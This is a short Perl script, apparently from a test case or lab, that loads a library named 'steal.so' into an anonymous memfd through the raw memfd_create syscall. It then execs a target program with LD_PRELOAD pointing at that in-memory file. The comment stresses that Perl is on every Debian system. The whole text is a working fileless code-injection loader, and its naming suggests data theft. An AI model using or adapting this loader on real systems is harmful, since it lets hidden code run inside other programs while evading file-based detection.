# Perl (Essential in Debian, so in every box) puts /case/steal.so in a memfd and starts the
# program named by its arguments with LD_PRELOAD pointing at it.
open(my $f, "<", "/case/steal.so") or die "read: $!\n"; binmode $f; local $/; my $so = <$f>;
my $name = "x"; my $fd = syscall(319, $name, 0); die "memfd_create: $!\n" if $fd < 0;
open(my $m, ">&=", $fd) or die "fdopen: $!\n"; binmode $m; syswrite($m, $so);
$ENV{LD_PRELOAD} = "/proc/self/fd/$fd";
exec @ARGV or die "exec: $!\n";
